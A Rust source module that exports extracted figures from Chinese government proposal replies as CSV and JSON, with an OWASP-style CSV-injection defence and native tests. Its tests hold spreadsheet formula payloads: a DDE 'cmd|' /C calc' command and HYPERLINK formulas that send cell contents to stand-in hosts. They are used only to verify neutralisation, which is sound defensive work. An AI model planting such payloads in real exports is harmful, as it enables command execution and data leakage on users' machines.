//! What leaves the widget: the (filtered) figures as CSV and JSON, the bars of the money chart,
//! and the citation of one figure. Pure and native-tested; the DOM layer only hands it over.

use crate::json;
use crate::model::{Figure, FigureKind, Reply};
use crate::outline::Outline;

/// The section a figure sits in: its number path (`二(一)`) and its title.
fn section_of<'a>(outline: &'a Outline, f: &Figure) -> (String, &'a str) {
    match outline.node(&f.section) {
        Some(k) => (outline.label(k), outline.nodes[k].title.as_str()),
        None => (String::new(), ""),
    }
}

/// Characters that show nothing and that a reader's eye skips: Unicode's default-ignorable
/// code points (zero-width space and joiners U+200B–U+200D, direction marks U+200E/U+200F and
/// embeddings U+202A–U+202E, U+2060–U+206F, the BOM U+FEFF, variation selectors, soft hyphen
/// …) and the interlinear annotation marks U+FFF9–U+FFFB. Placed before `=` they hide a formula
/// from a check that looks only at the first character, so [`is_formula`] skips them.
fn invisible(c: char) -> bool {
    matches!(c,
        '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
        | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'
        | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}'
        | '\u{fff0}'..='\u{fffb}' | '\u{1bca0}'..='\u{1bca3}' | '\u{1d173}'..='\u{1d17a}'
        | '\u{e0000}'..='\u{e0fff}')
}

/// Where a spreadsheet may start a new cell inside one of ours: our own separator `,`, the
/// list separator of locales that use `;` (Excel in much of Europe), the tab of a tab-separated
/// import or a paste, and line ends (a reader that splits rows before it unquotes).
const SEGMENT_ENDS: [char; 5] = [',', ';', '\t', '\r', '\n'];

/// Whether a spreadsheet (Excel, WPS, LibreOffice) that starts a cell here would read it as a
/// formula: its first character, after white space, invisible characters and quotes, is `=`,
/// `+`, `-`, `@`, a tab or a carriage return (OWASP, "CSV Injection"; quotes because `""=1`
/// unquotes to `=1`). Full-width forms (＝, ＋) are text to every spreadsheet. The look stops at
/// a line feed: what follows one is a place of its own ([`csv_field`] checks it), and so each
/// character is looked at a bounded number of times.
pub fn is_formula(text: &str) -> bool {
    for c in text.chars() {
        match c {
            '=' | '+' | '-' | '@' | '\t' | '\r' => return true,
            '\n' => return false,
            '"' => {}
            c if c.is_whitespace() || invisible(c) => {}
            _ => return false,
        }
    }
    false
}

/// One CSV cell, inert for any reader (OWASP, "CSV Injection"):
/// - a cell holding a separator of any reader (`,` `;` tab CR LF) or a quote is quoted, quotes
///   doubled;
/// - every place a reader may start a cell — the cell's start, and after each `,` `;` tab CR
///   LF inside it, for Excel with `;` as its list separator or an import splitting on tabs
///   reads `a;=1` as two cells whatever the quotes — gets a leading `'` where the text from
///   there would open a formula ([`is_formula`]). The `'` is shown, so the text stays
///   readable: `一、总体情况;'=cmd…`. A cell with such a `'` is quoted too.
fn csv_field(out: &mut String, s: &str) {
    let quote = s.contains([',', ';', '\t', '\r', '\n', '"']) || is_formula(s);
    if quote {
        out.push('"');
    }
    let mut segment_start = true;
    for (i, c) in s.char_indices() {
        // A quote where a reader that ignores our quoting starts a cell (after `;` tab CR
        // LF inside the cell) would open a quoted part for that reader, one that can run over
        // the line end into the next row: it gets the `'` too.
        let splits_here = i > 0 && matches!(s[..i].chars().next_back(), Some(';' | '\t' | '\r' | '\n'));
        if segment_start && ((c == '"' && splits_here) || is_formula(&s[i..])) {
            out.push('\'');
        }
        segment_start = SEGMENT_ENDS.contains(&c);
        if c == '"' {
            out.push('"');
        }
        out.push(c);
    }
    if quote {
        // A field ending at a separator: a reader splitting there (Excel with `;`) starts a
        // cell at our closing quote, which would swallow the line end and the next row.
        if segment_start {
            out.push('\'');
        }
        out.push('"');
    }
}

/// One inert CSV cell (the rules of `csv_field` above), for other tables of the crate (the
/// archive's indicator view).
pub fn csv_cell(out: &mut String, s: &str) {
    csv_field(out, s);
}

fn number(v: f64) -> String {
    let mut s = String::new();
    json::number(&mut s, v);
    s
}

/// CSV with a UTF-8 byte order mark, so Excel opens the Chinese text correctly.
pub fn csv(reply: &Reply, outline: &Outline, figures: &[usize]) -> String {
    let mut out = String::from("\u{feff}编号,数据,类型,数值,上限,单位,日期,限定,章节,章节标题,上下文\r\n");
    for &i in figures {
        let Some(f) = reply.figures.get(i) else { continue };
        let (number_path, title) = section_of(outline, f);
        let fields = [
            f.id.clone(),
            f.text.clone(),
            f.amount.kind.label().to_string(),
            number(f.amount.value),
            f.amount.high.map(number).unwrap_or_default(),
            f.amount.unit.clone().unwrap_or_default(),
            f.date.clone().unwrap_or_default(),
            f.amount.qualifier.map(|q| q.as_str().to_string()).unwrap_or_default(),
            number_path,
            title.to_string(),
            f.context.clone(),
        ];
        for (k, field) in fields.iter().enumerate() {
            if k > 0 {
                out.push(',');
            }
            csv_field(&mut out, field);
        }
        out.push_str("\r\n");
    }
    out
}

/// One observation of an indicator for [`indicators_csv`]: a figure with an indicator, the
/// reply it came from and the name the table gives that reply's file or address.
pub struct Observation<'a> {
    pub reply: &'a Reply,
    pub figure: &'a Figure,
    pub source: &'a str,
}

impl Observation<'_> {
    /// When the figure speaks of: a target its deadline (`2025`, `2025-12`), a result (or a
    /// figure with no stance) the reply's publication month (`2024-03`), else empty. The
    /// table is sorted on it.
    pub fn when(&self) -> String {
        if let Some(by) = self.figure.by.as_deref() {
            return by.to_string();
        }
        self.reported()
    }

    /// The reply's publication month (`2024-03`) or year, empty when the reply has no date.
    pub fn reported(&self) -> String {
        reported(self.reply)
    }
}

/// A reply's publication month (`2024-03`) or year, empty when the reply has no date: when
/// its results were reported.
pub fn reported(reply: &Reply) -> String {
    let Some(now) = reply.published.as_deref().and_then(crate::parse::promise::now_from) else {
        return String::new();
    };
    let mut s = now.year.to_string();
    if let Some(m) = now.month {
        s.push('-');
        if m < 10 {
            s.push('0');
        }
        s.push_str(&m.to_string());
    }
    s
}

/// Every figure of `replies` that measures an indicator (`Figure::indicator`, set by
/// `parse::annotate`), in the replies' order: the input of [`indicators_csv`].
pub fn observations<'a>(replies: &'a [(String, Reply)]) -> Vec<Observation<'a>> {
    let mut out = Vec::new();
    for (source, reply) in replies {
        for figure in &reply.figures {
            if figure.indicator.is_some() {
                out.push(Observation { reply, figure, source });
            }
        }
    }
    out
}

/// The indicator × date table as CSV (the command line's `indicators`, open data a bureau can
/// publish): one row per observation, in the order given (the caller sorts: by indicator,
/// then date), the same inert cells and byte order mark as [`csv`].
/// Columns: 指标, 日期 ([`Observation::when`]), 立场 (目标 / 成果 / empty), 数值, 上限, 单位,
/// 类型, 期限 (a target's deadline), 数据 (the figure as written), 答复 (the reply's title),
/// 发布 (its publication month), 来源 (the file or address), 上下文 (the clause).
pub fn indicators_csv(rows: &[Observation<'_>]) -> String {
    let mut out = String::from("\u{feff}指标,日期,立场,数值,上限,单位,类型,期限,数据,答复,发布,来源,上下文\r\n");
    for o in rows {
        let f = o.figure;
        let stance = match f.stance {
            Some(crate::model::Stance::Target) => "目标",
            Some(crate::model::Stance::Result) => "成果",
            None => "",
        };
        let fields = [
            f.indicator.clone().unwrap_or_default(),
            o.when(),
            stance.to_string(),
            number(f.amount.value),
            f.amount.high.map(number).unwrap_or_default(),
            f.amount.unit.clone().unwrap_or_default(),
            f.amount.kind.label().to_string(),
            f.by.clone().unwrap_or_default(),
            f.text.clone(),
            o.reply.title.clone(),
            o.reported(),
            o.source.to_string(),
            f.context.clone(),
        ];
        for (k, field) in fields.iter().enumerate() {
            if k > 0 {
                out.push(',');
            }
            csv_field(&mut out, field);
        }
        out.push_str("\r\n");
    }
    out
}

/// JSON: the contract's Figure objects, each with `sectionNumber` and `sectionTitle` added.
pub fn figures_json(reply: &Reply, outline: &Outline, figures: &[usize]) -> String {
    let mut out = String::from("[");
    for (k, &i) in figures.iter().enumerate() {
        let Some(f) = reply.figures.get(i) else { continue };
        if k > 0 {
            out.push(',');
        }
        let (number_path, title) = section_of(outline, f);
        let mut one = json::figure(f);
        one.pop(); // the closing brace: two more fields follow
        one.push_str(",\"sectionNumber\":");
        json::string(&mut one, &number_path);
        one.push_str(",\"sectionTitle\":");
        json::string(&mut one, title);
        one.push('}');
        out.push_str(&one);
    }
    out.push(']');
    out
}

/// One bar of the money chart.
#[derive(Clone, Debug, PartialEq)]
pub struct Bar {
    pub figure: usize,
    /// In 亿元.
    pub yi: f64,
    /// 0..=1 of the largest bar.
    pub share: f64,
}

/// The money figures to chart, largest first: at most `limit`, in 亿元; and how many money
/// figures are visible in all.
pub fn money_bars(reply: &Reply, visible: &[bool], limit: usize) -> (Vec<Bar>, usize) {
    let mut money: Vec<usize> = (0..reply.figures.len())
        .filter(|&i| reply.figures[i].amount.kind == FigureKind::Money && visible.get(i).copied().unwrap_or(false))
        .collect();
    let total = money.len();
    crate::util::sort_by(&mut money, |a, b| reply.figures[*a].amount.value > reply.figures[*b].amount.value);
    money.truncate(limit);
    let max = money.first().map_or(1.0, |&i| reply.figures[i].amount.value).max(f64::MIN_POSITIVE);
    let bars = money
        .into_iter()
        .map(|i| Bar { figure: i, yi: reply.figures[i].amount.value / 1e8, share: reply.figures[i].amount.value / max })
        .collect();
    (bars, total)
}

/// `4457.56`, `0.05`: 亿元 with at most two decimals.
pub fn yi_text(yi: f64) -> String {
    number((yi * 100.0).round() / 100.0)
}

/// The citation of one figure: the figure, its clause, its section, the reply's title and date.
pub fn citation(reply: &Reply, outline: &Outline, f: &Figure) -> String {
    let (number_path, title) = section_of(outline, f);
    let mut s = format!("“{}”（{}）", f.text, f.context);
    s.push_str("——《");
    s.push_str(&reply.title);
    s.push('》');
    if !number_path.is_empty() {
        s.push_str(&number_path);
        if !title.is_empty() && number_path != title {
            s.push(' ');
            s.push_str(title);
        }
    }
    if let Some(p) = &reply.published {
        s.push_str("，发布时间 ");
        s.push_str(p);
    }
    s.push('。');
    s
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::bundled_reply;

    #[test]
    fn csv_has_bom_header_and_quoted_fields() {
        let r = bundled_reply();
        let outline = Outline::new(&r);
        let csv = csv(&r, &outline, &[12, 46]);
        assert!(csv.starts_with("\u{feff}编号,数据,类型"));
        let lines: Vec<&str> = csv.trim_end().split("\r\n").collect();
        assert_eq!(lines.len(), 3);
        assert_eq!(
            lines[1],
            "f13,361亿元,金额,36100000000,,元,,,二(一),发挥政府产业基金引导作用,武汉基金累计出资规模361亿元"
        );
        assert!(lines[2].starts_with("f47,6%-10%,比例,6,10,%,,,四(一),加大政府采购支持力度,"));
    }

    #[test]
    fn csv_escapes_quotes_and_commas() {
        let mut out = String::new();
        csv_field(&mut out, "a,\"b\"");
        assert_eq!(out, "\"a,\"\"b\"\"\"");
    }

    /// One cell as written into the CSV.
    fn cell(s: &str) -> String {
        let mut out = String::new();
        csv_field(&mut out, s);
        out
    }

    #[test]
    fn cells_a_spreadsheet_would_evaluate_are_made_inert() {
        // The review's payloads: each becomes quoted text starting with ', still readable.
        assert_eq!(
            cell("=HYPERLINK(\"http://x\"&B2,\"点击查看详情\")"),
            "\"'=HYPERLINK(\"\"http://x\"\"&B2,\"\"点击查看详情\"\")\""
        );
        assert_eq!(cell("+cmd|' /C calc'!A0"), "\"'+cmd|' /C calc'!A0\"");
        assert_eq!(cell("@SUM(1+1)增长30%"), "\"'@SUM(1+1)增长30%\"");
        assert_eq!(cell("-2+3"), "\"'-2+3\"");
        // A tab or a CR opens a formula, and a reader splitting on it starts a cell after it.
        assert_eq!(cell("\t=1"), "\"'\t'=1\"");
        assert_eq!(cell("\r=1"), "\"'\r'=1\"");
        assert_eq!(cell("  =1"), "\"'  =1\"", "spaces before a formula do not hide it");
        // Ordinary text is left as it is.
        assert_eq!(cell("武汉基金累计出资规模361亿元"), "武汉基金累计出资规模361亿元");
        assert_eq!(cell("＝全角不是公式"), "＝全角不是公式");
    }

    #[test]
    fn cells_a_semicolon_or_tab_reader_would_split_are_inert_in_every_part() {
        // Excel with `;` as list separator, or an import splitting on tabs, starts a cell after
        // the `;` or the tab whatever the quotes: that part gets its own '.
        let cases = [
            ("一、总体情况;=cmd|' /C calc'!A0", "\"一、总体情况;'=cmd|' /C calc'!A0\""),
            ("分项情况\t=1+2", "\"分项情况\t'=1+2\""),
            ("合计,+1", "\"合计,'+1\""),
            ("甲; -2", "\"甲;' -2\""),
            ("乙\n@SUM(1)", "\"乙\n'@SUM(1)\""),
            // A quote does not hide a formula: `""=1` unquotes to `=1`.
            ("丙;\"=1", "\"丙;'\"\"=1\""),
            // Separators alone are quoted, nothing added.
            ("一;二\t三", "\"一;二\t三\""),
            ("增长-3.5%;下降2%", "\"增长-3.5%;下降2%\""),
        ];
        for (text, written) in cases {
            assert_eq!(cell(text), written, "{text:?}");
        }
    }

    #[test]
    fn invisible_characters_do_not_hide_a_formula() {
        for hidden in
            ["\u{feff}", "\u{200b}", "\u{200c}", "\u{200d}", "\u{200e}", "\u{200f}", "\u{2060}", "\u{202e}", "\u{ad}"]
        {
            let text = format!("{hidden}=1+2");
            assert_eq!(cell(&text), format!("\"'{text}\""), "{hidden:?}");
            let text = format!("章节;{hidden} {hidden}+1");
            assert_eq!(cell(&text), format!("\"章节;'{hidden} {hidden}+1\""), "{hidden:?}");
        }
        // Full-width and ideographic spaces are white space too.
        assert_eq!(cell("\u{3000}=1"), "\"'\u{3000}=1\"");
        // Visible text after them is ordinary text.
        assert_eq!(cell("\u{200b}投入5亿元"), "\u{200b}投入5亿元");
    }

    #[test]
    fn a_reply_written_to_attack_exports_inert_csv_and_exact_json() {
        let r = crate::parse(
            "答复\n一、第一部分\n=HYPERLINK(\"evil\"&B2)投入5亿元。\n@SUM(1+1)增长30%。\n-10%的降幅，+cmd增加3项。",
        );
        let outline = Outline::new(&r);
        let all: Vec<usize> = (0..r.figures.len()).collect();
        let csv = csv(&r, &outline, &all);
        for line in csv.trim_end().split("\r\n").skip(1) {
            for c in split_cells(line) {
                assert!(!is_formula(&c), "cell {c:?} of {line:?} is inert");
            }
        }
        let json = figures_json(&r, &outline, &all);
        assert_eq!(r.figures.len(), 4);
        for line in csv.trim_end().split("\r\n").skip(1) {
            let context = split_cells(line).pop().unwrap_or_default();
            assert!(context.starts_with('\''), "the clause {context:?} opens with a formula and is made inert");
        }
        assert!(
            json.contains("\"context\":\"=HYPERLINK(\\\"evil\\\"&B2)投入5亿元\""),
            "JSON keeps the text exactly: {json}"
        );
        assert!(json.contains("\"context\":\"@SUM(1+1)增长30%\""));
    }

    /// The cells of one CSV line, unquoted (RFC 4180), as a spreadsheet reads them.
    pub(crate) fn split_cells(line: &str) -> Vec<String> {
        let mut out = Vec::new();
        let mut cur = String::new();
        let mut quoted = false;
        let mut chars = line.chars().peekable();
        while let Some(c) = chars.next() {
            match (quoted, c) {
                (true, '"') if chars.peek() == Some(&'"') => {
                    cur.push('"');
                    chars.next();
                }
                (true, '"') => quoted = false,
                (false, '"') if cur.is_empty() => quoted = true,
                (false, ',') => out.push(std::mem::take(&mut cur)),
                _ => cur.push(c),
            }
        }
        out.push(cur);
        out
    }

    #[test]
    fn json_adds_section_number_and_title() {
        let r = bundled_reply();
        let outline = Outline::new(&r);
        let j = figures_json(&r, &outline, &[12]);
        assert!(j.starts_with("[{\"id\":\"f13\",\"text\":\"361亿元\""));
        assert!(j.ends_with(",\"sectionNumber\":\"二(一)\",\"sectionTitle\":\"发挥政府产业基金引导作用\"}]"));
    }

    #[test]
    fn bars_are_money_largest_first_in_yi() {
        let r = bundled_reply();
        let all = vec![true; r.figures.len()];
        let (bars, total) = money_bars(&r, &all, 12);
        assert_eq!(total, 6);
        let texts: Vec<&str> = bars.iter().map(|b| r.figures[b.figure].text.as_str()).collect();
        assert_eq!(texts, ["4457.56亿元", "1415亿元", "361亿元", "238.51亿元", "27.19亿元", "15.97亿元"]);
        assert_eq!(bars[0].share, 1.0);
        assert_eq!(yi_text(bars[0].yi), "4457.56");
        let (two, total) = money_bars(&r, &all, 2);
        assert_eq!((two.len(), total), (2, 6), "a limit shortens the bars, not the count");
    }

    #[test]
    fn citation_names_figure_context_section_title_and_date() {
        let r = bundled_reply();
        let outline = Outline::new(&r);
        let f = &r.figures[12];
        assert_eq!(
            citation(&r, &outline, f),
            "“361亿元”（武汉基金累计出资规模361亿元）——《对市政协十四届二次会议第20230314号提案的答复》二(一) 发挥政府产业基金引导作用，发布时间 2023-08-22 19:35。"
        );
    }
}
